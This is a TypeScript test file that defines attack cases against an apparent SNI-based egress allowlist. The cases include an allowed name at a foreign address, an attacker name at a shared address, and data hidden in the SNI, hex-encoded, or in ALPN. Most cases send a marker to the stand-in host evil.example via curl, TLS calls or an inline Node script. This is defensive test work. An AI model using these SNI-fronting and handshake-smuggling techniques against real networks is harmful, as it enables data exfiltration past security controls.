/** Rows N1 to N3: an allowed name at a foreign address, a foreign name at an allowed address, data in the name itself. */
import type { Attack } from "../case.ts";
import { hello, markedHello, nameless } from "../refusals.ts";

const kind = "attack";
const hex = (text: string): string => Buffer.from(text).toString("hex");

export const addressCases: Attack[] = [
  {
    kind,
    row: "N1",
    variant: "an allowed name's SNI at the attacker's address",
    run: (job, marker) => job.tls(`${job.at(66)}:443`, ["-servername", "allowed.example"], marker),
    refusal: nameless(443),
    foretold: hello("allowed.example", "name_mismatch", 66),
  },
  {
    kind,
    row: "N1",
    variant: "the same on another port",
    run: (job, marker) => job.tls(`${job.at(66)}:8443`, ["-servername", "allowed.example"], marker),
    refusal: nameless(8443),
    foretold: hello("allowed.example", "default", 66, 8443),
  },
  {
    kind,
    row: "N1",
    variant: "the same once the attacker's address has a name of its own",
    run: async (job, marker) => {
      await job.resolve("evil.example");
      await job.curl("--connect-to", `::${job.at(66)}:443`, `https://allowed.example/${marker}`);
    },
    refusal: nameless(443),
    foretold: hello("allowed.example", "name_mismatch", 66),
  },
  {
    kind,
    row: "N1",
    variant: "the same at an address of another allowed name",
    run: async (job, marker) => {
      await job.resolve("allowed.example");
      await job.resolve("cdn.example");
      await job.curl("--connect-to", `::${job.at(20)}:443`, `https://allowed.example/${marker}`);
    },
    refusal: hello("allowed.example", "name_mismatch", 20),
  },
  {
    kind,
    row: "N2",
    variant: "the attacker's SNI at an address shared with an allowed name",
    run: async (job, marker) => {
      await job.resolve("allowed.example");
      await job.curl("--connect-to", `::${job.at(10)}:443`, `https://evil.example/${marker}`);
    },
    refusal: hello("evil.example"),
  },
  {
    kind,
    row: "N2",
    variant: "the same with a post-quantum key share, over more than one segment",
    run: async (job, marker) => {
      await job.resolve("allowed.example");
      await job.node(postQuantum, [job.dot(10), "evil.example", marker]);
    },
    refusal: hello("evil.example"),
  },
  {
    kind,
    row: "N3",
    variant: "data in the SNI",
    run: async (job, marker) => {
      await job.resolve("allowed.example");
      await job.curl("--connect-to", `::${job.at(10)}:443`, `https://${marker}.evil.example/`);
    },
    refusal: markedHello(".evil.example"),
  },
  {
    kind,
    row: "N3",
    variant: "data in the SNI, encoded",
    run: async (job, marker) => {
      await job.resolve("allowed.example");
      await job.tls(`${job.at(10)}:443`, ["-servername", `${hex(marker)}.evil.example`], "");
    },
    refusal: (job, marker) => hello(`${hex(marker)}.evil.example`)(job),
  },
  {
    kind,
    row: "N3",
    variant: "data in a hello's other fields, behind a denied name",
    run: async (job, marker) => {
      await job.resolve("allowed.example");
      await job.tls(`${job.at(10)}:443`, ["-servername", "evil.example", "-alpn", marker], "");
    },
    refusal: hello("evil.example"),
  },
];

const postQuantum = `
const [, host, servername, marker] = process.argv;
const socket = require("tls").connect({ host, servername, port: 443, rejectUnauthorized: false,
  ecdhCurve: "X25519MLKEM768", ALPNProtocols: ["http/1.1"] });
socket.on("secureConnect", () => socket.write("GET /" + marker + " HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"));
socket.on("error", () => process.exit()).on("data", () => process.exit());
setTimeout(() => process.exit(), 3000);`;
